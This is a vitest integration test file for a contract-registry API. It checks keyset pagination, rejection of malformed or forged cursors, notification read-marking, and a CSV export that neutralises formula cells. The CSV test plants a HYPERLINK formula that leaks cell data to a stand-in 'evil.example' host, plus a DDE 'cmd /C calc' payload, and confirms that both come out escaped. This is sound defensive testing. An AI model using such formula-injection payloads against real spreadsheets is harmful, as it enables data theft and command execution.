// Paged lists (registry, tasks, notifications, timeline), the unpaged CSV export with formula
// cells neutralised, and notifications marked read per person.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { castAndClient, clientBody, contractBody, type Cast } from '../support/fixtures';
import { startHarness, type Harness, type Person } from '../support/harness';

let h: Harness;
let cast: Cast;
/** Contracts made over HTTP, through the workflow. */
const real: string[] = [];

// Rows written straight into the tables, so there are many, and many share a timestamp (and
// some a millisecond, differing in microseconds): what a page boundary must not skip or repeat.
const BASE = '2026-03-01T10:00:00';
const SAME_INSTANT = `${BASE}.000000Z`;
const SYNTHETIC_CONTRACTS = 60;
const SYNTHETIC_NUMBER = (i: number) => `CT-2026-9${String(i).padStart(4, '0')}`;
const instantOf = (i: number) =>
  i % 3 === 0 ? SAME_INSTANT : `${BASE}.${String(500 + (i % 7)).padStart(3, '0')}${String(i).padStart(3, '0')}Z`;

beforeAll(async () => {
  h = await startHarness();
  cast = await castAndClient(h);
  for (let i = 0; i < 2; i++) {
    const created = await h.request('POST', '/api/contracts', {
      token: cast.ops.token,
      body: contractBody(cast.clientId, cast.manager.id),
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    real.push(created.body.number);
  }
  await seed();
});
afterAll(() => h?.close());

async function seed(): Promise<void> {
  for (let i = 0; i < SYNTHETIC_CONTRACTS; i++) {
    const number = SYNTHETIC_NUMBER(i);
    await h.db.query(
      `INSERT INTO contract_registry (number, workflow_id, client_id, manager_id, created_by, template, subject, amount, currency,
         start_date, end_date, payment_terms_days, status, registered_at)
       VALUES ($1, $2, $3, $4, 'seed', 'ru', $5, 1000, 'RUB', '2026-03-01', '2027-03-01', 30, $6, $7)`,
      [number, `seed-${number}`, cast.clientId, cast.manager.id, `Предмет ${i}`, i % 2 ? 'pending_signature' : 'sent', instantOf(i)],
    );
  }
  const first = SYNTHETIC_NUMBER(0);
  for (let i = 0; i < 23; i++) {
    await h.db.query(
      `INSERT INTO tasks (key, workflow_id, process_type, contract_number, kind, ref, title, assignee_role, opened_at)
       VALUES ($1, 'seed', 'contract', $2, 'legal_approval', 'legal_approval', $3, 'lawyer', $4)`,
      [`seed:task:${i}`, SYNTHETIC_NUMBER(i), `Задача ${i}`, instantOf(i)],
    );
    // Half to the manager personally, half to every manager.
    await h.db.query(
      `INSERT INTO notifications (key, process_type, contract_number, recipient_staff_id, recipient_role, kind, message, created_at)
       VALUES ($1, 'contract', $2, $3, 'manager', 'status', $4, $5)`,
      [`seed:note:${i}`, SYNTHETIC_NUMBER(i), i % 2 ? cast.manager.id : null, `Уведомление ${i}`, instantOf(i)],
    );
    await h.db.query(
      `INSERT INTO timeline_events (key, workflow_id, process_type, contract_number, step, status_from, status_to, at, waited_ms)
       VALUES ($1, $2, 'contract', $3, $4, 'sent', 'sent', $5, 0)`,
      [`seed:event:${i}`, `seed-${first}`, first, `step_${i}`, instantOf(i)],
    );
  }
}

interface Walk {
  ids: string[];
  pages: number;
}

/** Follows nextCursor from the first page to the last. */
async function walk(path: string, token: string, limit: number, idOf: (item: any) => string, from: string | null = null): Promise<Walk> {
  const ids: string[] = [];
  let cursor: string | null = from;
  let pages = 0;
  do {
    const sep = path.includes('?') ? '&' : '?';
    const res = await h.request('GET', `${path}${sep}limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`, { token });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.items.length).toBeLessThanOrEqual(limit);
    ids.push(...res.body.items.map(idOf));
    cursor = res.body.nextCursor;
    if (cursor) expect(res.body.items).toHaveLength(limit);
    pages++;
    expect(pages).toBeLessThan(500);
  } while (cursor);
  return { ids, pages };
}

const column = async (sql: string, params: unknown[] = []) => (await h.db.query(sql, params)).rows.map((r) => String(r.v));

describe('keyset pages', () => {
  it('walks the registry without duplicates or gaps, in registration order, at every page size', async () => {
    const expected = await column('SELECT number AS v FROM contract_registry ORDER BY registered_at, number');
    expect(expected.length).toBe(SYNTHETIC_CONTRACTS + real.length);
    for (const limit of [1, 7, 50, 200]) {
      const { ids, pages } = await walk('/api/registry', cast.manager.token, limit, (e) => e.number);
      expect(ids, `limit ${limit}`).toEqual(expected);
      expect(pages).toBe(Math.max(1, Math.ceil(expected.length / limit)));
    }
    const first = await h.request('GET', '/api/registry', { token: cast.manager.token });
    expect(first.body.items).toHaveLength(50);
    expect(first.body.nextCursor).toEqual(expect.any(String));
  });

  it('pages a filtered registry within the filter', async () => {
    const expected = await column(`SELECT number AS v FROM contract_registry WHERE status = 'sent' ORDER BY registered_at, number`);
    const { ids } = await walk(`/api/registry?status=sent&managerId=${cast.manager.id}`, cast.manager.token, 4, (e) => e.number);
    expect(ids).toEqual(expected);
  });

  it('neither skips nor repeats a row when rows are added between pages', async () => {
    const page1 = await h.request('GET', '/api/registry?limit=10', { token: cast.manager.token });
    // Added after the walk began: one sorting before the cursor, one after the end.
    const extra = ['CT-2026-80001', 'CT-2026-80002'];
    await h.db.query(
      `INSERT INTO contract_registry (number, workflow_id, client_id, manager_id, created_by, template, subject, amount, currency,
         start_date, end_date, payment_terms_days, status, registered_at)
       SELECT n, 'seed-' || n, $2, $3, 'seed', 'ru', 'x', 1, 'RUB', '2026-03-01', '2027-03-01', 0, 'sent', t
       FROM unnest($1::text[], ARRAY['2020-01-01T00:00:00Z', '2030-01-01T00:00:00Z']::timestamptz[]) AS x(n, t)`,
      [extra, cast.clientId, cast.manager.id],
    );
    const rest = await walk('/api/registry', cast.manager.token, 25, (e) => e.number, page1.body.nextCursor);
    const seen = [...page1.body.items.map((e: { number: string }) => e.number), ...rest.ids];
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen).not.toContain(extra[0]);
    expect(seen.at(-1)).toBe(extra[1]);
    await h.db.query('DELETE FROM contract_registry WHERE number = ANY($1)', [extra]);
  });

  it("walks a person's open tasks, theirs and their role's", async () => {
    const expected = await column(
      `SELECT id AS v FROM tasks WHERE closed_at IS NULL AND (assignee_staff_id = $1 OR (assignee_staff_id IS NULL AND assignee_role = 'lawyer'))
       ORDER BY opened_at, id`,
      [cast.lawyer.id],
    );
    expect(expected.length).toBeGreaterThanOrEqual(23);
    for (const limit of [1, 5, 200]) {
      expect((await walk('/api/tasks', cast.lawyer.token, limit, (t) => t.id)).ids).toEqual(expected);
    }
    const director = await walk('/api/tasks', cast.director.token, 1, (t) => t.contractNumber);
    expect(director.ids.sort()).toEqual([...real].sort());
  });

  it('walks notifications newest first', async () => {
    const expected = await column(
      `SELECT id AS v FROM notifications WHERE recipient_staff_id = $1 OR (recipient_staff_id IS NULL AND recipient_role = 'manager')
       ORDER BY created_at DESC, id DESC`,
      [cast.manager.id],
    );
    expect(expected.length).toBeGreaterThanOrEqual(23);
    for (const limit of [1, 4, 200]) {
      expect((await walk('/api/notifications', cast.manager.token, limit, (n) => n.id)).ids).toEqual(expected);
    }
  });

  it('walks a timeline and keeps its number, status and what it waits on', async () => {
    const number = SYNTHETIC_NUMBER(0);
    const expected = await column('SELECT step AS v FROM timeline_events WHERE contract_number = $1 ORDER BY at, id', [number]);
    expect(expected).toHaveLength(23);
    expect((await walk(`/api/contracts/${number}/timeline`, cast.manager.token, 3, (e) => e.step)).ids).toEqual(expected);

    const page = await h.request('GET', `/api/contracts/${number}/timeline?limit=2`, { token: cast.manager.token });
    expect(page.body).toMatchObject({ number, status: 'sent', nextCursor: expect.any(String) });
    expect(page.body.items).toHaveLength(2);
    expect(page.body.waitingOn.map((w: { task: string }) => w.task)).toEqual(['legal_approval']);

    const realTimeline = await h.request('GET', `/api/contracts/${real[0]}/timeline`, { token: cast.manager.token });
    expect(realTimeline.body.items.map((e: { step: string }) => e.step)).toEqual(['registration']);
    expect(realTimeline.body.nextCursor).toBeNull();
  });
});

describe('bad paging input', () => {
  const LISTS = () => ['/api/registry', '/api/tasks', '/api/notifications', `/api/contracts/${real[0]}/timeline`];

  it('answers 400 naming limit for a limit outside 1..200', async () => {
    for (const path of LISTS()) {
      for (const limit of ['0', '201', '-1', 'abc', '2.5', '', '%00', '1&limit=2']) {
        const res = await h.request('GET', `${path}?limit=${limit}`, { token: cast.manager.token });
        expect(res.status, `${path} limit=${limit}`).toBe(400);
        expect(res.body.error.issues.map((i: { path: string }) => i.path)).toEqual(['limit']);
      }
    }
  });

  it('answers 400 naming cursor for a cursor it did not make', async () => {
    const forged = (key: unknown) => Buffer.from(JSON.stringify(key)).toString('base64url');
    // Written as they go into the URL: NUL, a surrogate half's UTF-8 bytes, forged keys.
    const cursors = [
      'garbage!',
      '%00',
      '%ED%A0%80',
      'a%00b',
      ...[
        forged(['2026-01-01T00:00:00.000000Z']),
        forged(['0000-01-01T00:00:00.000000Z', randomUUID()]),
        forged(['2026-01-01T00:00:00.000000Z', 'x\u0000']),
        forged(['2026-01-01T00:00:00.000000Z', '\uD800']),
        forged({ at: 1 }),
        'x'.repeat(1000),
      ].map(encodeURIComponent),
    ];
    for (const path of LISTS()) {
      for (const cursor of cursors) {
        const res = await h.request('GET', `${path}?cursor=${cursor}`, { token: cast.manager.token });
        expect(res.status, `${path} cursor=${cursor}`).toBe(400);
        expect(res.body.error.issues.map((i: { path: string }) => i.path)).toEqual(['cursor']);
      }
    }
    // A registry cursor is not a tasks cursor.
    const registryPage = await h.request('GET', '/api/registry?limit=1', { token: cast.manager.token });
    const crossed = await h.request('GET', `/api/tasks?cursor=${registryPage.body.nextCursor}`, { token: cast.manager.token });
    expect(crossed.status).toBe(400);
  });
});

describe('the registry as CSV', () => {
  it('exports every matching row, not a page, with formula cells neutralised', async () => {
    const formulaClient = clientBody();
    formulaClient.requisites.legalName = '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")';
    const client = await h.request('POST', '/api/clients', { token: cast.ops.token, body: formulaClient });
    expect(client.status, JSON.stringify(client.body)).toBe(201);
    const created = await h.request('POST', '/api/contracts', {
      token: cast.ops.token,
      body: contractBody(client.body.id, cast.manager.id, {
        terms: { ...contractBody('', '').terms, subject: '@SUM(1+1)*cmd|" /C calc"!A0' },
      }),
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);

    const csv = await h.request('GET', '/api/registry?format=csv', { token: cast.lawyer.token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const text = String(csv.body);
    const total = (await h.db.query('SELECT count(*)::int AS n FROM contract_registry')).rows[0].n;
    expect(text.trimEnd().split('\r\n')).toHaveLength(total + 1);
    expect(total).toBeGreaterThan(50);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Открыть"")"`);
    expect(text).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    // No cell anywhere starts with a formula character.
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);

    const filtered = await h.request('GET', `/api/registry?format=csv&status=sent&limit=1`, { token: cast.lawyer.token });
    const sent = (await h.db.query(`SELECT count(*)::int AS n FROM contract_registry WHERE status = 'sent'`)).rows[0].n;
    expect(String(filtered.body).trimEnd().split('\r\n')).toHaveLength(sent + 1);
  });
});

describe('notifications read', () => {
  let other: Person;
  beforeAll(async () => {
    other = await h.person('Второй менеджер', ['manager']);
  });

  const unread = async (person: Person) => (await walk('/api/notifications?unread=true', person.token, 200, (n) => n.id)).ids;

  it('marks one read for the caller only, with readAt', async () => {
    const before = await unread(cast.manager);
    const roleNote = (await h.db.query(`SELECT id FROM notifications WHERE key = 'seed:note:0'`)).rows[0].id as string;

    const marked = await h.request('POST', `/api/notifications/${roleNote}/read`, { token: cast.manager.token });
    expect(marked.status).toBe(200);
    expect(marked.body).toMatchObject({ id: roleNote, readAt: expect.any(String) });
    // Again: still read, at the first time.
    const again = await h.request('POST', `/api/notifications/${roleNote}/read`, { token: cast.manager.token });
    expect(again.body.readAt).toBe(marked.body.readAt);

    const after = await unread(cast.manager);
    expect(after).toEqual(before.filter((id) => id !== roleNote));
    // Addressed to every manager: another manager still has it unread.
    expect(await unread(other)).toContain(roleNote);
    const listed = (await h.request('GET', '/api/notifications?limit=200', { token: cast.manager.token })).body.items;
    expect(listed.find((n: { id: string }) => n.id === roleNote).readAt).toBe(marked.body.readAt);
  });

  it("answers 404 for someone else's notification, an unknown one and a non-id", async () => {
    const personal = (await h.db.query(`SELECT id FROM notifications WHERE key = 'seed:note:1'`)).rows[0].id as string;
    expect((await h.request('POST', `/api/notifications/${personal}/read`, { token: other.token })).status).toBe(404);
    expect((await h.request('POST', `/api/notifications/${personal}/read`, { token: cast.lawyer.token })).status).toBe(404);
    expect((await h.request('POST', `/api/notifications/${randomUUID()}/read`, { token: cast.manager.token })).status).toBe(404);
    expect((await h.request('POST', '/api/notifications/%00/read', { token: cast.manager.token })).status).toBe(404);
    expect((await h.request('POST', '/api/notifications/not-an-id/read', { token: cast.manager.token })).status).toBe(404);
    expect((await h.db.query('SELECT count(*)::int AS n FROM notification_reads WHERE notification_id = $1', [personal])).rows[0].n).toBe(
      0,
    );
  });

  it('marks several, skipping ids that are not the caller’s, then all', async () => {
    const mine = (await unread(cast.manager)).slice(0, 3);
    const notMine = (
      await h.db.query(`SELECT id FROM notifications WHERE recipient_role = 'lawyer' OR recipient_role = 'director' LIMIT 1`)
    ).rows[0]?.id as string | undefined;
    const ids = [...mine, ...(notMine ? [notMine] : []), randomUUID()];
    const several = await h.request('POST', '/api/notifications/read', { token: cast.manager.token, body: { ids } });
    expect(several.status).toBe(200);
    expect(several.body.items.map((n: { id: string }) => n.id).sort()).toEqual([...mine].sort());
    expect(several.body.items.every((n: { readAt: string }) => typeof n.readAt === 'string')).toBe(true);
    expect(await unread(cast.manager)).not.toEqual(expect.arrayContaining(mine));

    const bad = await h.request('POST', '/api/notifications/read', { token: cast.manager.token, body: '{"ids":["\\u0000"]}' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.issues.map((i: { path: string }) => i.path)).toEqual(['ids.0']);

    const all = await h.request('POST', '/api/notifications/read', { token: cast.manager.token });
    expect(all.status).toBe(200);
    expect(await unread(cast.manager)).toEqual([]);
    const total = (await h.request('GET', '/api/notifications?limit=200', { token: cast.manager.token })).body.items;
    expect(total.every((n: { readAt: string | null }) => n.readAt !== null)).toBe(true);
    expect(all.body.items).toHaveLength(total.length);
    // The other manager's are untouched.
    expect((await unread(other)).length).toBeGreaterThan(0);
  });
});
